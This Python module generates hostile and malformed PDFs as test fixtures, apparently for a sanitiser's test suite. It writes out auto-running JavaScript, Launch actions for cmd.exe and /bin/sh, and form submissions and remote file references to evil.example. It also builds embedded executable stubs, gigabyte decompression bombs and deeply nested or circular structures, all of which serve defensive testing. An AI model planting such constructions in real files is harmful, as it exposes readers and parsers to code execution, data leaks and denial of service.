"""PDFs that no commission should open, each made here from nothing: see tests/hostile.py."""

import io
import struct
import warnings
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, PageCopyWarning, Pdf, Stream, String

ALERT = "app.alert('read me');"


def saved(pdf: Pdf, **options: object) -> bytes:
    output = io.BytesIO()
    warnings.simplefilter("ignore", PageCopyWarning)  # a field outside of its form is meant
    # the same bytes in every run, except where a password salts them
    pdf.save(output, **({"deterministic_id": True} if "encryption" not in options else {}) | options)
    return output.getvalue()


def a_pdf(pages: int = 1, text: str = "Declaration") -> Pdf:
    """Pages with one line of text each."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 60 700 Td ({text} {number + 1}) Tj ET".encode())
    return pdf


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def annotation(pdf: Pdf, **entries: object) -> None:
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 99, 99], **entries))])


def file_inside(pdf: Pdf) -> Dictionary:
    stream = pdf.make_stream(b"MZ and so on")
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F="invoice.exe", UF="invoice.exe", EF=Dictionary(F=stream)))


def set_at(pdf: Pdf, place: str, value: object) -> None:
    """`place` is where in the catalogue: "Names/JavaScript"."""
    *way, last = place.split("/")
    thing = pdf.Root
    for step in way:
        if f"/{step}" not in thing:
            thing[f"/{step}"] = Dictionary()
        thing = thing[f"/{step}"]
    thing[f"/{last}"] = value


def chained(pdf: Pdf) -> None:
    """The script is the third of three actions, the first two are harmless."""
    last = action("JavaScript", JS=ALERT)
    annotation(pdf, Subtype=Name.Link, A=action("URI", URI="https://example.kz", Next=Array([action("GoTo", D="a", Next=last)])))


def in_outline(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title="Open me", A=action("JavaScript", JS=ALERT)))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def in_field(pdf: Pdf, trigger: str) -> None:
    field = Dictionary(FT=Name.Tx, T="a", Subtype=Name.Widget, AA=Dictionary({f"/{trigger}": action("JavaScript", JS=ALERT)}))
    annotation(pdf, **{key[1:]: value for key, value in field.items()})
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots)


def hidden_deep(pdf: Pdf) -> None:
    thing: object = action("JavaScript", JS=ALERT)
    for _level in range(60):
        thing = Array([Dictionary(Inside=thing)])
    pdf.Root.Extra = thing


DANGERS: dict[str, Callable[[Pdf], object]] = {
    "script-on-open": lambda pdf: set_at(pdf, "OpenAction", action("JavaScript", JS=ALERT)),
    "script-on-open-in-a-stream": lambda pdf: set_at(pdf, "OpenAction", action("JavaScript", JS=Stream(pdf, ALERT.encode()))),
    "script-by-name": lambda pdf: set_at(pdf, "Names/JavaScript", Dictionary(Names=["a", action("JavaScript", JS=ALERT)])),
    "script-in-a-chain": chained,
    "script-in-the-outline": in_outline,
    "script-in-a-field-on-key": lambda pdf: in_field(pdf, "K"),
    "script-in-a-field-on-format": lambda pdf: in_field(pdf, "F"),
    "script-nobody-refers-to": lambda pdf: pdf.make_indirect(action("JavaScript", JS=ALERT)),
    "script-deep-inside": hidden_deep,
    "script-behind-a-link": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("JavaScript", JS=ALERT)),
    "script-as-address": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("URI", URI="javascript:alert(1)")),
    "script-when-a-page-opens": lambda pdf: set_page(pdf, "AA", Dictionary(O=action("JavaScript", JS=ALERT))),
    "script-when-a-page-closes": lambda pdf: set_page(pdf, "AA", Dictionary(C=action("JavaScript", JS=ALERT))),
    "script-before-printing": lambda pdf: set_at(pdf, "AA", Dictionary(WP=action("JavaScript", JS=ALERT))),
    "script-in-a-rendition": lambda pdf: set_at(pdf, "OpenAction", action("Rendition", OP=0, JS=ALERT)),
    "act-on-page-without-script": lambda pdf: set_page(pdf, "AA", Dictionary(O=action("Named", N=Name.Print))),
    "act-on-open-print": lambda pdf: set_at(pdf, "OpenAction", action("Named", N=Name.Print)),
    "act-on-open-go-to-the-web": lambda pdf: set_at(pdf, "OpenAction", action("URI", URI="https://evil.example/")),
    "launch-on-open": lambda pdf: set_at(pdf, "OpenAction", action("Launch", F="cmd.exe")),
    "launch-on-open-windows": lambda pdf: set_at(pdf, "OpenAction", action("Launch", Win=Dictionary(F="cmd.exe", P="/c calc"))),
    "launch-behind-a-link": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("Launch", F="/bin/sh")),
    "launch-as-address": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("URI", URI="file:///etc/passwd")),
    "go-to-a-foreign-file": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("GoToR", F="\\\\evil.example\\x.pdf", D=[0, Name.Fit])),
    "go-to-an-inner-file": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("GoToE", T=Dictionary(R=Name.C, N="x"))),
    "send-a-form": lambda pdf: annotation(pdf, Subtype=Name.Widget, A=action("SubmitForm", F="https://evil.example/", Flags=4)),
    "send-a-form-on-open": lambda pdf: set_at(pdf, "OpenAction", action("SubmitForm", F="https://evil.example/")),
    "load-data": lambda pdf: annotation(pdf, Subtype=Name.Widget, A=action("ImportData", F="x.fdf")),
    "film": lambda pdf: annotation(pdf, Subtype=Name.Movie, Movie=Dictionary(F="x.avi")),
    "sound": lambda pdf: annotation(pdf, Subtype=Name.Sound, Sound=Stream(pdf, b"beep")),
    "sound-action": lambda pdf: annotation(pdf, Subtype=Name.Link, A=action("Sound", Sound=Stream(pdf, b"beep"))),
    "screen": lambda pdf: annotation(pdf, Subtype=Name.Screen, A=action("Rendition", OP=0)),
    "rich-media": lambda pdf: annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
    "three-dimensions": lambda pdf: annotation(pdf, Subtype=Name("/3D"), **{"3DD": Stream(pdf, b"U3D")}),
    "attached-file": lambda pdf: set_at(pdf, "Names/EmbeddedFiles", Dictionary(Names=["a", file_inside(pdf)])),
    "attached-to-a-page": lambda pdf: annotation(pdf, Subtype=Name.FileAttachment, FS=file_inside(pdf)),
    "attached-to-nothing": file_inside,
    "associated-file": lambda pdf: set_at(pdf, "AF", Array([file_inside(pdf)])),
    "portfolio": lambda pdf: set_at(pdf, "Collection", Dictionary(View=Name.D)),
    "xfa": lambda pdf: set_at(pdf, "AcroForm", Dictionary(Fields=[], XFA=Array(["template", Stream(pdf, b"<template/>")]))),
    "content-in-another-file": lambda pdf: set_page(pdf, "Contents", outside(pdf)),
}  # fmt: skip


def set_page(pdf: Pdf, key: str, value: object) -> None:
    pdf.pages[0].obj[f"/{key}"] = value


def outside(pdf: Pdf) -> Stream:
    stream = Stream(pdf, b"")
    stream.F = String("https://evil.example/page")
    return stream


def by_hand(*objects: bytes, trailer: bytes = b"/Root 1 0 R", version: bytes = b"1.7", end: bytes = b"%%EOF\n") -> bytes:
    """A file from the text of its objects, numbered from 1, with a right table."""
    out, places = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"), []
    for number, text in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + table + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n" % (len(objects) + 1, trailer, len(out)) + end


CATALOGUE, TREE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def stream_of(data: bytes, entries: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def zeros(mebibytes: int) -> bytes:
    """So many, squeezed: the same block again and again, because squeezing a gigabyte takes ten seconds."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeezed.compress(bytes(2**20)) + squeezed.flush(zlib.Z_FULL_FLUSH)
    sum_of_zeros = (mebibytes * 2**20 % 65521) << 16 | 1
    return b"\x78\xda" + block * mebibytes + b"\x03\x00" + sum_of_zeros.to_bytes(4, "big")


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small files that are large inside, deep, endless or many."""
    gigabyte = zeros(1024)
    assert len(zlib.decompress(zeros(3))) == 3 * 2**20
    yield "objects-of-a-gigabyte", by_hand(
        CATALOGUE, TREE, PAGE, stream_of(gigabyte, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"), trailer=b"/Root 1 0 R/XRefStm 9"
    )  # fmt: skip
    table = stream_of(gigabyte, b"/Type/XRef/Size 90000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode")
    head = b"%PDF-1.7\n"
    yield "table-of-a-gigabyte", head + b"1 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)
    yield "objects-squeezed-twice", objects_in_a_stream(zlib.compress(gigabyte, 9), b"/Filter[/FlateDecode/FlateDecode]")
    yield "objects-of-a-gigabyte-in-use", objects_in_a_stream(gigabyte, b"/Filter/FlateDecode")
    yield "deep-arrays", by_hand(CATALOGUE, TREE, PAGE, b"[" * 200_000 + b"]" * 200_000)
    yield "deep-dictionaries", by_hand(CATALOGUE, TREE, PAGE, b"<</A" * 100_000 + b" 1 " + b">>" * 100_000)
    yield "many-values", by_hand(CATALOGUE, TREE, PAGE, b"[" + b"1 " * 2_500_000 + b"]")
    yield "many-objects", by_hand(CATALOGUE, TREE, PAGE, *[b"1"] * 150_000)
    numbers = b"".join(b"%d 0 " % number for number in range(5, 400_005))
    yield "very-many-objects", objects_in_a_stream(zlib.compress(numbers), b"/Filter/FlateDecode", count=400_000)
    yield "deep-page-tree", deep_page_tree(20_000)
    yield "pages-that-multiply", pages_that_multiply(24)
    yield "page-tree-in-a-circle", by_hand(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "declared-size", by_hand(CATALOGUE, TREE, PAGE, trailer=b"/Root 1 0 R/Size 2147483647")
    yield "table-before-itself", by_hand(CATALOGUE, TREE, PAGE, trailer=b"/Root 1 0 R/Prev 9")
    yield "length-of-itself", by_hand(CATALOGUE, TREE, PAGE, b"<</Length 4 0 R>>\nstream\nx\nendstream")
    yield "object-stream-in-itself", objects_in_a_stream(zlib.compress(b"5 0 1"), b"/Filter/FlateDecode/Extends 5 0 R", itself=True)


def objects_in_a_stream(data: bytes, entries: bytes, *, count: int = 1, itself: bool = False) -> bytes:
    """Object 5 and so many more lie in the object stream 4, by a table that is a stream too."""
    first = by_hand(CATALOGUE, TREE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R>>",
                    stream_of(data, b"/Type/ObjStm/N %d/First %d" % (count, 4 if count == 1 else 0) + entries))  # fmt: skip
    body = first[: first.index(b"xref\n0 ")]
    places = [body.index(b"%d 0 obj" % number) for number in range(1, 5)]
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), *((2, 5 if itself else 4, 0),) * count, (1, len(body), 0)]
    table = stream_of(b"".join(struct.pack(">BIH", *row) for row in rows), b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R" % len(rows))
    return body + b"%d 0 obj\n" % (len(rows) - 1) + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def deep_page_tree(depth: int) -> bytes:
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, depth)]
    return by_hand(CATALOGUE, *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def pages_that_multiply(levels: int) -> bytes:
    """Each node names the next one twice: two to the power of the levels."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (number + 1, number + 1) for number in range(2, levels + 2)]
    return by_hand(CATALOGUE, *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def broken() -> Iterator[tuple[str, bytes]]:
    """Files that programs repair, each in its own way."""
    sound = by_hand(CATALOGUE, TREE, PAGE)
    yield "wrong-start-of-table", sound.replace(b"startxref\n", b"startxref\n9")
    yield "no-start-of-table", sound.replace(b"startxref", b"startnext")
    yield "wrong-place-of-object", sound.replace(b"0000000015", b"0000000077")
    yield "no-catalogue", by_hand(CATALOGUE, TREE, PAGE, trailer=b"/Info 3 0 R")
    yield "catalogue-is-a-number", by_hand(b"42", TREE, PAGE)
    yield "tree-is-a-number", by_hand(CATALOGUE, b"42", PAGE)
    yield "page-is-a-number", by_hand(CATALOGUE, TREE, b"42")
    yield "page-is-missing", by_hand(CATALOGUE, b"<</Type/Pages/Kids[77 0 R]/Count 1>>", PAGE)
    yield "half-an-object", by_hand(CATALOGUE, TREE, PAGE, b"<</A (unclosed")
    yield "stream-without-end", by_hand(CATALOGUE, TREE, PAGE, b"<</Length 5>>\nstream\nabcdefgh")
    yield "stream-of-four-gigabytes", by_hand(CATALOGUE, TREE, PAGE, b"<</Length 4294967295>>\nstream\nx\nendstream")
    yield "stream-of-negative-length", by_hand(CATALOGUE, TREE, PAGE, b"<</Length -5>>\nstream\nx\nendstream")
    yield "key-twice", by_hand(b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/OpenAction 4 0 R>>", TREE, PAGE, b"<<>>")
    yield (
        "script-with-escaped-name",
        by_hand(b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", TREE, PAGE, b"<</S/#4aava#53cript/J#53(app.alert(1))>>"),
    )
    yield "only-header", b"%PDF-1.7\n%%EOF\n"
    yield "only-table", b"%PDF-1.7\nxref\n0 0\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
    yield "no-end-mark", by_hand(CATALOGUE, TREE, PAGE, end=b"")


def with_pages(number: int) -> bytes:
    return saved(a_pdf(number)) if number else by_hand(CATALOGUE, b"<</Type/Pages/Kids[]/Count 0>>")


def locked() -> Iterator[tuple[str, bytes]]:
    for revision in (2, 4, 6):
        for name, owner, user in (("owner", "secret", ""), ("user", "secret", "open"), ("nothing", "", "")):
            lock = pikepdf.Encryption(owner=owner, user=user, R=revision, aes=revision > 3, metadata=revision > 3)
            yield f"locked-{revision}-with-{name}", saved(a_pdf(), encryption=lock)


def hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    for name in DANGERS:
        yield name, dangerous(name)
        if name.startswith("script"):
            yield f"{name}-packed", dangerous(name, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield from bombs()
    yield from broken()
    yield from locked()
    for number in (0, 61, 200, 1000):
        yield f"{number}-pages", with_pages(number)


def dangerous(*names: str, **options: object) -> bytes:
    pdf = a_pdf()
    for name in names:
        DANGERS[name](pdf)
    # what nobody refers to is not written, unless something does
    pdf.Root.Kept = Array([thing for thing in pdf.objects if isinstance(thing, (Dictionary, Stream)) and thing.is_indirect])
    return saved(pdf, **options)
